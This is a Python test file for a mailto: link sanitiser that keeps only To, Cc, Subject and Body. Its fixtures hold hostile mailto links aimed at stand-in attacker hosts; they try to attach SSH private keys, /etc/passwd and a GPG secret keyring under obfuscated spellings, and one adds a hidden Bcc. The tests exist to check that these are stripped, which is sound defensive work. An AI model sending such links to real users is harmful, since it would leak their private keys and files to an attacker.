"""mailto: links from received mail keep only To, Cc, Subject and Body ("Mailto: Me Your Secrets", 2020)."""

from __future__ import annotations

import pytest

from app.mime.mailto import safe_mailto


@pytest.mark.parametrize(
    "link",
    [
        "mailto:mallory@attacker.test?subject=Hi&attach=/home/me/.ssh/id_rsa",
        "mailto:mallory@attacker.test?attachment=file:///etc/passwd&subject=Hi",
        "mailto:mallory@attacker.test?ATTACH=~/.gnupg/secring.gpg&subject=Hi",
        "mailto:mallory@attacker.test?%61ttach=/etc/passwd&subject=Hi",
        "MAILTO:mallory@attacker.test?subject=Hi&attach=%2Fhome%2Fme%2F.ssh%2Fid_rsa",
        "mailto:mallory@attacker.test?subject=Hi&Attach=smb://evil.test/share/x&attach=/a&attach=/b",
    ],
)
def test_attach_parameters_are_dropped_in_every_spelling(link: str) -> None:
    safe = safe_mailto(link)
    assert safe is not None
    assert safe.url == "mailto:mallory@attacker.test?subject=Hi"
    assert "attach" in safe.dropped[0]
    assert "ssh" not in safe.url and "passwd" not in safe.url


def test_bcc_and_unknown_fields_are_dropped_and_named() -> None:
    safe = safe_mailto("mailto:a@b.test?bcc=spy@evil.test&x-mozilla-attach=1&in-reply-to=%3Cx@y%3E&cc=c@d.test")
    assert safe is not None
    assert safe.url == "mailto:a@b.test?cc=c@d.test"
    assert safe.dropped == ("bcc", "x-mozilla-attach", "in-reply-to")


def test_honest_links_keep_addresses_subject_and_body_with_a_literal_plus() -> None:
    safe = safe_mailto("mailto:a+tag@b.test,c@d.test?subject=Lab%20results&body=Call%20me%0Atoday")
    assert safe is not None and safe.dropped == ()
    assert safe.url == "mailto:a+tag@b.test,c@d.test?subject=Lab%20results&body=Call%20me%0Atoday"


@pytest.mark.parametrize(
    "link", ["https://x.test/?attach=1", "mailto:", "mailto:?subject=x", "mailto:" + "a" * 9000 + "@b.test"]
)
def test_links_that_are_not_usable_mailto_urls_are_refused(link: str) -> None:
    assert safe_mailto(link) is None
